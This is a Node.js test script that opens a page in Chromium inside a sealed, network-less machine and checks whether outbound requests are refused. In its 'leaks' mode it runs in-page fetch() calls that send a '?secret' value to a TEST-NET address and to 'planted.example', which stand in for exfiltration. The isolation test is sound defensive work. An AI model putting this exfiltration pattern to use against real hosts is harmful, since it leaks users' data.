// Run in the sealed machine: opens a page without Homebody in Chromium. `plain` does nothing there; `leaks` tries two ways out, to an
// address of TEST-NET and to a name. It starts nothing where there is a network, so that nothing can go anywhere.
import { networkInterfaces } from 'node:os';
import { createServer } from 'node:http';
import { inPage, launch } from '../../browser/browsers.mjs';

const [what] = process.argv.slice(2);
const interfaces = Object.keys(networkInterfaces()).filter((name) => name !== 'lo');
if (interfaces.length) throw new Error(`there is a network here: ${interfaces.join(', ')}`);

const server = createServer((_, response) => response.writeHead(200, { 'Content-Type': 'text/html' })
  .end('<!doctype html><html lang="en"><title>A page</title><link rel="icon" href="data:,"><p>A page</p></html>'));
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
const browser = await launch('chromium');
try {
  await browser.driver.get(`http://localhost:${server.address().port}/`);
  const refused = await inPage(browser.driver, async (leaks) => {
    const tries = leaks ? ['http://192.0.2.1/?secret', 'http://planted.example/?secret'] : [];
    const results = await Promise.all(tries.map((address) => fetch(address, { mode: 'no-cors' }).then(() => 'answered', () => 'refused')));
    return results;
  }, what === 'leaks');
  console.log(JSON.stringify(refused));
} finally {
  await browser.close();
  await new Promise((resolve) => { server.close(resolve); server.closeAllConnections(); });
}
